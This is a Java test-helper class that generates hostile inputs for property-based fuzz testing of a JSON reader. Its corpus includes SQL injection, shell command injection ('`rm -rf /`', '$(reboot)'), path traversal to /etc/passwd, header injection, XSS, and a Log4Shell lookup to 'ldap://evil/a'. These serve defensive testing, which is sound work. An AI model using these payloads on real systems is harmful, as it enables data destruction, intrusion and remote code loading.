package io.ghlsync.hostile;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;

import java.math.BigDecimal;
import java.math.BigInteger;
import java.util.List;

/**
 * The hostile values the property tests draw from: what attackers and broken senders put in fields (SQL and shell
 * metacharacters, path traversal, header injection, control characters, odd Unicode, huge numbers, wrong types),
 * mixed with arbitrary text, and JSON records built from them.
 */
public final class HostileValues {

    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    /** Fixed nasty strings, each a classic. */
    public static final List<String> CORPUS = List.of(
            "'; DROP TABLE inbox; --", "\" OR \"1\"=\"1", "1; DELETE FROM links", "%' OR 1=1 --", "`rm -rf /`", "$(reboot)",
            "../../etc/passwd", "..\\..\\windows\\system32", "/dev/null", "%2e%2e%2f%2e%2e%2f", "file:///etc/passwd",
            "value\r\nX-Injected: yes", "Camel\r\nCamelHttpUri: http://evil", "\u0000", "\u202Eevil\u202C", "\uD83D\uDE00",
            "\uFEFF", "Ω≈ç√∫", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "", " ", "null", "NaN", "-0", "1e309", "9".repeat(400), "x".repeat(20_000),
            "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://evil/a}", "#{7*7}", "ana@example.com", "+5491155556666");

    private HostileValues() {
    }

    public static Arbitrary<String> strings() {
        return Arbitraries.oneOf(Arbitraries.of(CORPUS), Arbitraries.strings().all().ofMaxLength(60),
                Arbitraries.strings().withCharRange(' ', '~').ofMaxLength(30));
    }

    /** Any JSON value, nesting at most {@code depth} deep. */
    public static Arbitrary<JsonNode> values(int depth) {
        Arbitrary<JsonNode> scalar = Arbitraries.oneOf(
                strings().map(NODES::textNode),
                Arbitraries.longs().map(NODES::numberNode),
                Arbitraries.bigIntegers().between(BigInteger.TEN.pow(30).negate(), BigInteger.TEN.pow(30)).map(NODES::numberNode),
                Arbitraries.of(new BigDecimal("1e400"), new BigDecimal("-1e-400"), new BigDecimal("0.1")).map(NODES::numberNode),
                Arbitraries.of(true, false).map(NODES::booleanNode),
                Arbitraries.just(NODES.nullNode()));
        if (depth <= 0) {
            return scalar;
        }
        Arbitrary<JsonNode> array = values(depth - 1).list().ofMaxSize(4).map(items -> {
            ArrayNode node = NODES.arrayNode();
            items.forEach(node::add);
            return node;
        });
        return Arbitraries.frequencyOf(net.jqwik.api.Tuple.of(6, scalar), net.jqwik.api.Tuple.of(1, array),
                net.jqwik.api.Tuple.of(1, objects(depth - 1, List.of("id", "name", "value"))));
    }

    /** JSON objects whose keys are mostly the given field names (so the reader under test looks at them), some random. */
    public static Arbitrary<JsonNode> objects(int depth, List<String> fields) {
        Arbitrary<String> keys = Arbitraries.oneOf(Arbitraries.of(fields), Arbitraries.of(fields), strings());
        return net.jqwik.api.Combinators.combine(keys.list().ofMaxSize(8), values(depth).list().ofSize(8)).as((names, values) -> {
            ObjectNode node = NODES.objectNode();
            for (int i = 0; i < names.size(); i++) {
                node.set(names.get(i), values.get(i));
            }
            return node;
        });
    }
}
